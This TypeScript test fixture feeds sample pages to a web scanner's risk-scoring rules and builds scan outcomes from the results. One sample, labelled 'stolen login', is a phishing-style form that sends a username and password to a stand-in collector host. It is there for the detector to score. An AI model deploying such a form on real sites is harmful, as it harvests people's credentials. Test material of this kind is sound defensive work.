/** The pages that were scanned: the scanner's own rules read and score them, as they would a page from the network. */
import { noPage, readPage, scorePage, toTarget } from '../../../subgraphs/scanning-and-wallets/domain/rules/index.js';
import type { ScanStory } from '../chapter.js';
import { sha256 } from '../ids.js';

export interface ScanOutcome {
  readonly result: {
    readonly risk_score: number;
    readonly categories: readonly string[];
    readonly content_hash: string;
    readonly http_status: number;
    readonly http_headers: Readonly<Record<string, string>>;
    readonly content_type: string;
    readonly model_used: string;
    readonly analysis_metadata: unknown;
    readonly reasoning: string;
    readonly indicators: readonly string[];
  } | null;
  readonly failure: { readonly state: 'FAILED' | 'TIMED_OUT'; readonly reason: string } | null;
  readonly summary: Readonly<Record<string, unknown>>;
}

const careful = {
  'strict-transport-security': 'max-age=31536000',
  'content-security-policy': "default-src 'self'",
  'x-content-type-options': 'nosniff',
};
const html = 'text/html';

const pages = {
  plain: {
    headers: careful,
    type: html,
    isDownload: false,
    body: () => '<h1>Service status</h1><p>All systems work.</p>',
  },
  careless: { headers: {}, type: html, isDownload: false, body: () => '<h1>Welcome</h1><p>Opening hours 8 to 17.</p>' },
  'stolen login': {
    headers: {},
    type: html,
    isDownload: false,
    body: () =>
      '<form action="https://collect.example.org/in"><input name="user"><input type="password" name="word"></form>',
  },
  download: { headers: careful, type: 'application/octet-stream', isDownload: true, body: (url: string) => url },
} as const;

const failures = {
  silent: { state: 'TIMED_OUT', reason: 'The scan was not finished before its deadline.' },
  refused: { state: 'FAILED', reason: 'The server refused the connection.' },
} as const;

export function outcomeOf({ url, page, on }: ScanStory): ScanOutcome {
  if (page === 'silent' || page === 'refused') {
    const failure = failures[page];
    return { result: null, failure, summary: { outcome: 'FAILED', reason: failure.reason } };
  }
  const { headers, type, isDownload, body } = pages[page];
  const text = body(url);
  const target = toTarget(url, url);
  const assessment = scorePage({
    page: target,
    redirectedFrom: [],
    headers,
    certificate: target.protocol === 'https:' ? { fault: null } : null,
    isDownload,
    facts: isDownload ? noPage : readPage(text, url),
  });
  const { riskScore, categories, indicators, reasoning, modelUsed, analysisMetadata } = assessment;
  return {
    result: {
      risk_score: riskScore,
      categories,
      content_hash: sha256(`${url} ${on} ${text}`),
      http_status: 200,
      http_headers: { ...headers, 'content-type': type, server: 'nginx' },
      content_type: type,
      model_used: modelUsed,
      analysis_metadata: analysisMetadata,
      reasoning,
      indicators,
    },
    failure: null,
    summary: { outcome: 'SCANNED', bytes: text.length, riskScore, categories, modelUsed },
  };
}
